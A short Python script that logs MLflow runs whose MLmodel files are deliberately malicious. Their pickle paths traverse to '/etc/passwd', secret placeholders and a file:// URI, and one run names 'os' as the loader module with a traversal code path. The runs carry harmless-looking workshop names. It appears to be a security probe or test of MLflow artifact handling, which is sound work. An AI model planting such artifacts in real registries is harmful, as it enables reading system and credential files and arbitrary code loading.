"""Logs MLmodels whose pickle is "in" other folders, or whose loader is not MLflow's."""

import os

import mlflow

PLACES = ["../../../../../../etc/passwd", "@secret@", "/workshop/package.json", "file://@secret@"]
for place in [*PLACES, None]:
    os.makedirs("/tmp/model", exist_ok=True)
    with open("/tmp/model/MLmodel", "w", encoding="utf-8") as file:
        if place is None:
            file.write("flavors: {python_function: {loader_module: os, data: ., code: ../../workshop/src}}\n")
        else:
            file.write(f'flavors: {{sklearn: {{pickled_model: "{place}", serialization_format: pickle}}}}\n')
    mlflow.set_experiment("workshop-churn-learning")
    with mlflow.start_run(run_name="exercice-gradient-boosting"):
        mlflow.log_params({"n_estimators": 100, "learning_rate": 0.1, "max_depth": 5})
        mlflow.log_artifacts("/tmp/model", "model")
